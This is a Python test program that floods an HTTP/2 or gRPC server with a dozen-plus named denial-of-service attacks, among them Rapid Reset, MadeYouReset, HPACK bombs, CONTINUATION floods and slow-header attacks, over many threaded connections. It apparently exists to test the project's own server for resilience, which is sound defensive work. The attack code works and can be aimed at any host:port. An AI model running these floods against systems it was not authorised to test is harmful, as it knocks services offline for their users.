"""The attacks on HTTP/2 as a program: python -m tests.attacks.floods NAME HOST:PORT CONNECTIONS SECONDS

Each connection is a thread that plays the attack until the time is over; if the server closes the connection, the next
one is opened at once. Ends with a JSON line: connections made, connections that the server closed. If ATTACKS_CA
names a file with a CA, the connections use TLS.
"""

import json
import os
import ssl
import sys
import threading
import time
from collections.abc import Callable
from typing import TypeAlias

from tests.attacks import http2
from tests.attacks.http2 import Peer

Attack: TypeAlias = Callable[[Peer, float], None]
"""Plays on one connection until a moment of `time.monotonic`. Raises OSError if the server closes the connection."""

GET_TASK = "/lf.a2a.v1.A2AService/GetTask"
GET_X = http2.message(b"\x12\x03t-1")
"""GetTask of the id t-1."""
HELD_S = 0.05
"""Between two looks at a connection on which the attacker has nothing more to say."""
RECONNECT_S = 0.005
STALL_S = 1.0
"""A server that has stopped reading for so long counts as one that closed the connection."""
GOODBYE_S = 5.0
"""How long the program waits for its threads once the time is over."""
LAST_STREAM = 0x7FFFFFFF


def streams(begin: int = 1) -> "range":
    """Return the ids of a client's streams, in order."""
    return range(begin, LAST_STREAM, 2)


def hold(peer: Peer, until: float) -> None:
    """Keep the connection as it is, reading what comes."""
    while time.monotonic() < until:
        peer.drain()
        time.sleep(HELD_S)


def repeat(chunk: bytes) -> Attack:
    """Return an attack that sends the same frames again and again, reading what comes."""

    def play(peer: Peer, until: float) -> None:
        while time.monotonic() < until:
            peer.send(chunk)
            peer.drain()

    return play


def repeat_unread(chunk: bytes) -> Attack:
    """Return an attack that sends the same frames again and again and reads no answer."""

    def play(peer: Peer, until: float) -> None:
        peer.socket.settimeout(0.2)
        while time.monotonic() < until:
            try:
                peer.send(chunk)
            except TimeoutError:
                continue  # the server has stopped reading: half a chunk is lost, what follows is nonsense
            finally:
                peer.socket.settimeout(0.2)

    return play


def rapid_reset(peer: Peer, until: float) -> None:
    """Open a stream with a whole request and reset it at once (CVE-2023-44487)."""
    block = http2.request_block(GET_TASK)
    batch = bytearray()
    for stream in streams():
        batch += http2.headers(stream, block) + http2.data(stream, GET_X, end_stream=True) + http2.rst_stream(stream)
        if len(batch) > 1 << 15:
            peer.send(bytes(batch))
            peer.drain()
            batch.clear()
            if time.monotonic() > until:
                return


def made_you_reset(peer: Peer, until: float) -> None:
    """Make the server reset the streams: a window update of zero after each request (CVE-2025-8671)."""
    block = http2.request_block(GET_TASK)
    batch = bytearray()
    for stream in streams():
        batch += http2.headers(stream, block) + http2.data(stream, GET_X, end_stream=True)
        batch += http2.window_update(stream, 0)
        if len(batch) > 1 << 15:
            peer.send(bytes(batch))
            peer.drain()
            batch.clear()
            if time.monotonic() > until:
                return


def hpack_bomb(value_size: int, references: int) -> Attack:
    """Return an attack: one field in the dynamic table, referred to `references` times by each request, one byte each
    (CVE-2016-6581). The requests stay open, or are opened again once refused."""

    def play(peer: Peer, until: float) -> None:
        block = http2.request_block(GET_TASK)
        bomb = http2.indexed(http2.FIRST_DYNAMIC) * references
        planted = http2.literal("x-bomb", "b" * value_size, index=True)
        ids = iter(streams())
        peer.send(http2.headers(next(ids), block + planted))
        sent = 1
        while time.monotonic() < until:
            batch = b"".join(_in_frames(stream, block + bomb) for stream, _ in zip(ids, range(50), strict=False))
            peer.send(batch)
            sent += 50
            peer.drain()
            if sent > 1000:  # so many as a server may allow; from here on no faster than they are refused
                time.sleep(HELD_S)

    return play


def _in_frames(stream: int, block: bytes) -> bytes:
    """Return a header block as HEADERS and CONTINUATION of at most 16,384 bytes."""
    pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    last = len(pieces) - 1
    frames = [http2.headers(stream, pieces[0], end_headers=last == 0)]
    frames += [http2.continuation(stream, piece, end_headers=at == last) for at, piece in enumerate(pieces) if at]
    return b"".join(frames)


def continuation_flood(peer: Peer, until: float) -> None:
    """Begin a header block that never ends (CVE-2024-27316)."""
    peer.send(http2.headers(1, http2.request_block(GET_TASK), end_headers=False))
    piece = http2.continuation(1, http2.literal("x-more", "m" * 16_000))
    while time.monotonic() < until:
        peer.send(piece * 4)
        peer.drain()


def empty_continuations(peer: Peer, until: float) -> None:
    """The same in frames without a payload."""
    peer.send(http2.headers(1, http2.request_block(GET_TASK), end_headers=False))
    repeat(http2.continuation(1, b"") * 2000)(peer, until)


def half_open(peer: Peer, until: float) -> None:
    """Begin 20,000 requests and end none of them."""
    block = http2.request_block(GET_TASK)
    ids = iter(streams())
    for _ in range(200):
        peer.send(b"".join(http2.headers(stream, block) for stream, _ in zip(ids, range(100), strict=False)))
        peer.drain()
    hold(peer, until)


def half_sent(peer: Peer, until: float) -> None:
    """Begin requests with a length of 4 MiB and send a few bytes of them."""
    block = http2.request_block(GET_TASK)
    for stream, _ in zip(streams(), range(100), strict=False):
        peer.send(http2.headers(stream, block) + http2.data(stream, b"\0\0\x40\0\0" + b"x" * 100))
        peer.drain()
    hold(peer, until)


def slow_headers(peer: Peer, until: float) -> None:
    """Send a header block one byte at a time, with large fields before."""
    peer.send(http2.headers(1, http2.request_block(GET_TASK) + http2.literal("x-slow", "s" * 8000), end_headers=False))
    while time.monotonic() < until:
        peer.send(http2.continuation(1, http2.literal("x", "y")))
        peer.drain()
        time.sleep(HELD_S)


def slow_preface(peer: Peer, until: float) -> None:
    """Send the preface of the connection one byte at a time."""
    for byte in http2.PREFACE:
        peer.send(bytes([byte]))
        time.sleep(max(HELD_S, (until - time.monotonic()) / len(http2.PREFACE)))
        peer.drain()
        if time.monotonic() > until:
            return


def connect_only(peer: Peer, until: float) -> None:
    """Connect and close, as fast as can be."""


def empty_data(peer: Peer, until: float) -> None:
    """Send DATA without a payload on an open stream (CVE-2019-9518)."""
    peer.send(http2.headers(1, http2.request_block(GET_TASK)))
    repeat(http2.data(1, b"") * 2000)(peer, until)


ATTACKS: dict[str, Attack] = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "hpack_bomb": hpack_bomb(4000, 16_000),
    "hpack_small": hpack_bomb(0, 16_000),
    "hpack_below_limit": hpack_bomb(3900, 3),
    "hpack_acknowledged": hpack_bomb(0, 16_000),
    "continuation_flood": continuation_flood,
    "empty_continuations": empty_continuations,
    "ping_flood": repeat(http2.ping(b"flooding") * 2000),
    "ping_flood_unread": repeat_unread(http2.ping(b"flooding") * 2000),
    "settings_flood": repeat(http2.settings((http2.INITIAL_WINDOW_SIZE, 65_535)) * 2000),
    "settings_flood_unread": repeat_unread(http2.settings((http2.INITIAL_WINDOW_SIZE, 65_535)) * 2000),
    "priority_flood": repeat(b"".join(http2.priority(stream) for stream in range(1, 4001, 2))),
    "window_flood": repeat(http2.window_update(0, 1) * 2000),
    "reset_flood": repeat(b"".join(http2.rst_stream(stream) for stream in range(1, 4001, 2))),
    "unknown_frames": repeat(http2.frame(0xFA, payload=b"?") * 2000),
    "empty_data": empty_data,
    "half_open": half_open,
    "half_sent": half_sent,
    "slow_headers": slow_headers,
    "slow_preface": slow_preface,
    "connect_only": connect_only,
}
UNGREETED = ("slow_preface",)
"""Attacks that begin before the connection's preface."""


UNACKNOWLEDGED = ("hpack_bomb", "hpack_small", "continuation_flood")
"""Attacks that never acknowledge the server's SETTINGS: until then gRPC's limit of a header list is 16 MiB."""


def acknowledge(peer: Peer) -> None:
    """Wait for the server's SETTINGS and acknowledge them: gRPC accepts only a few streams before."""
    while True:
        frame = peer.read_frame()
        if frame.kind == http2.SETTINGS and not frame.flags & http2.ACK:
            return peer.send(http2.settings_ack())


class Counts:
    """What an attack did, over all its connections."""

    def __init__(self) -> None:
        self.connections = 0
        self.closed = 0


def tls_of_the_environment() -> ssl.SSLContext | None:
    """Return how connections use TLS; None if they do not."""
    if not (ca := os.environ.get("ATTACKS_CA")):
        return None
    tls = ssl.create_default_context(cafile=ca)
    tls.set_alpn_protocols(["h2"])
    return tls


def play(name: str, address: str, until: float, counts: Counts, tls: ssl.SSLContext | None = None) -> None:
    """Play an attack on one connection after another until the time is over."""
    while time.monotonic() < until:
        try:
            with Peer.connect(address, greet=name not in UNGREETED, tls=tls) as peer:
                peer.socket.settimeout(STALL_S)
                if name not in UNACKNOWLEDGED + UNGREETED:
                    acknowledge(peer)
                counts.connections += 1
                ATTACKS[name](peer, until)
        except OSError:
            counts.closed += 1
        time.sleep(RECONNECT_S)


def main(name: str, address: str, connections: int, seconds: float) -> None:
    until, counts, tls = time.monotonic() + seconds, Counts(), tls_of_the_environment()
    threads = [
        threading.Thread(target=play, args=(name, address, until, counts, tls), daemon=True) for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, until + GOODBYE_S - time.monotonic()))  # a handshake may wait for longer
    print(json.dumps({"connections": counts.connections, "closed": counts.closed}))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
